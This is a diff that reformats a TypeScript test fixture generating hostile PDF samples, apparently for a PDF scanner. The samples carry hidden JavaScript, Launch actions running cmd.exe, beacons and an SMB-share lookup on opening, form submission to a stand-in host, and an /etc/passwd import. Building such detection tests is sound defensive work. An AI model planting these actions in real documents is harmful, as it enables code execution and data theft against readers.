@@ -6,7 +6,9 @@ const scriptAction = '<< /S /JavaScript /JS (app.alert(1)) >>'
 const launchAction = '<< /S /Launch /F (cmd.exe) >>'
 
 export const pdfScripts: SampleFile[] = [
-  badSample('script', 'script.pdf', 'a script on opening', () => createPdf({}, `/OpenAction ${scriptAction}`)),
+  badSample('script', 'script.pdf', 'a script on opening', () =>
+    createPdf({}, `/OpenAction ${scriptAction}`),
+  ),
   badSample('script', 'names.pdf', 'a script among the names', () =>
     createPdf({ 6: '<< /Names [(a) 7 0 R] >>', 7: scriptAction }, '/Names << /JavaScript 6 0 R >>'),
   ),
@@ -14,7 +16,12 @@ export const pdfScripts: SampleFile[] = [
   badSample('script', 'form.pdf', 'a script in a form', () =>
     createPdf({ ...formObjects, 6: `<< /FT /Tx /T (a) /AA << /K ${scriptAction} >> >>` }),
   ),
-  badSample('script', 'escaped.pdf', 'its name written with escapes', pdfWithLink('<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>')),
+  badSample(
+    'script',
+    'escaped.pdf',
+    'its name written with escapes',
+    pdfWithLink('<< /S /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>'),
+  ),
   badSample('script', 'packed.pdf', 'packed away', () =>
     packObjects({ ...onePageObjects, 1: createCatalog(`/OpenAction ${scriptAction}`) }),
   ),
@@ -27,25 +34,49 @@ export const pdfScripts: SampleFile[] = [
   badSample('script', 'packed-update.pdf', 'packed away as a later version', () =>
     Buffer.concat([createPdf(), packObjects({ 9: scriptAction }).subarray(15)]),
   ),
-  badSample('script', 'before.pdf', 'in a version that was replaced', () => appendUpdate(createPdf({ 6: scriptAction }), { 6: 'null' })),
+  badSample('script', 'before.pdf', 'in a version that was replaced', () =>
+    appendUpdate(createPdf({ 6: scriptAction }), { 6: 'null' }),
+  ),
   badSample('script', 'update.pdf', 'in a version behind', () =>
     appendUpdate(createPdf(), { 1: createCatalog(`/OpenAction ${scriptAction}`) }),
   ),
   badSample('script', 'inside.pdf', 'inside of the bytes of a picture', () =>
-    createPdf({ 6: { dict: '/Subtype /Image', bytes: encodeLatin1(`x\n9 0 obj\n${scriptAction}\nendobj\n`) } }),
+    createPdf({
+      6: { dict: '/Subtype /Image', bytes: encodeLatin1(`x\n9 0 obj\n${scriptAction}\nendobj\n`) },
+    }),
   ),
-  badSample('script', 'unclosed.pdf', 'behind a text that never ends', () => createPdf({ 6: '(never closed', 7: scriptAction })),
+  badSample('script', 'unclosed.pdf', 'behind a text that never ends', () =>
+    createPdf({ 6: '(never closed', 7: scriptAction }),
+  ),
   badSample('script', 'comment.pdf', 'behind a comment between the words of an object', () =>
-    encodeLatin1(createPdf({ 6: scriptAction }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n')),
+    encodeLatin1(
+      createPdf({ 6: scriptAction }).toString('latin1').replace('6 0 obj\n', '6 0 %\nobj\n'),
+    ),
   ),
-  badSample('script', 'broken.pdf', 'in an object that breaks off', () => createPdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' })),
-  badSample('script', 'uri.pdf', 'a link that is a script', pdfWithLink('<< /S /URI /URI (\\152avascript:alert(1)) >>')),
+  badSample('script', 'broken.pdf', 'in an object that breaks off', () =>
+    createPdf({ 6: '<< /A << /B [ 1 2 /S /JavaScript' }),
+  ),
+  badSample(
+    'script',
+    'uri.pdf',
+    'a link that is a script',
+    pdfWithLink('<< /S /URI /URI (\\152avascript:alert(1)) >>'),
+  ),
 ]
 
 export const pdfActions: SampleFile[] = [
-  badSample('launch', 'launch.pdf', 'a program to start', () => createPdf({}, `/OpenAction ${launchAction}`)),
-  badSample('launch', 'launch-link.pdf', 'a program to start, on a link', pdfWithLink(launchAction)),
-  badSample('launch', 'launch-packed.pdf', 'a program to start, packed away', () => packObjects({ ...onePageObjects, 6: launchAction })),
+  badSample('launch', 'launch.pdf', 'a program to start', () =>
+    createPdf({}, `/OpenAction ${launchAction}`),
+  ),
+  badSample(
+    'launch',
+    'launch-link.pdf',
+    'a program to start, on a link',
+    pdfWithLink(launchAction),
+  ),
+  badSample('launch', 'launch-packed.pdf', 'a program to start, packed away', () =>
+    packObjects({ ...onePageObjects, 6: launchAction }),
+  ),
   badSample('opening', 'beacon.pdf', 'a page fetched on opening', () =>
     createPdf({}, '/OpenAction << /S /URI /URI (http://192.0.2.1/) >>'),
   ),
@@ -53,13 +84,28 @@ export const pdfActions: SampleFile[] = [
     createPdf({ 6: '<< /S /URI /URI (http://192.0.2.1/) >>' }, '/OpenAction 6 0 R'),
   ),
   badSample('opening', 'chain.pdf', 'a share asked on opening, in a chain', () =>
-    createPdf({}, '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>'),
+    createPdf(
+      {},
+      '/OpenAction << /S /GoTo /D [3 0 R] /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a) >> >>',
+    ),
   ),
   badSample('opening', 'pages.pdf', 'a page fetched whenever a page is shown', () =>
-    createPdf({ 3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>' }),
+    createPdf({
+      3: '<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (http://192.0.2.1/) >> >> >>',
+    }),
   ),
-  badSample('sends', 'submit.pdf', 'a form that sends', pdfWithLink('<< /S /SubmitForm /F (http://192.0.2.1/) >>')),
-  badSample('sends', 'import.pdf', 'a form that reads files', pdfWithLink('<< /S /ImportData /F (/etc/passwd) >>')),
+  badSample(
+    'sends',
+    'submit.pdf',
+    'a form that sends',
+    pdfWithLink('<< /S /SubmitForm /F (http://192.0.2.1/) >>'),
+  ),
+  badSample(
+    'sends',
+    'import.pdf',
+    'a form that reads files',
+    pdfWithLink('<< /S /ImportData /F (/etc/passwd) >>'),
+  ),
   badSample('form', 'xfa.pdf', 'a dynamic form', () =>
     createPdf({ 6: { dict: '', bytes: encodeLatin1('<xdp:xdp/>') } }, '/AcroForm << /XFA 6 0 R >>'),
   ),
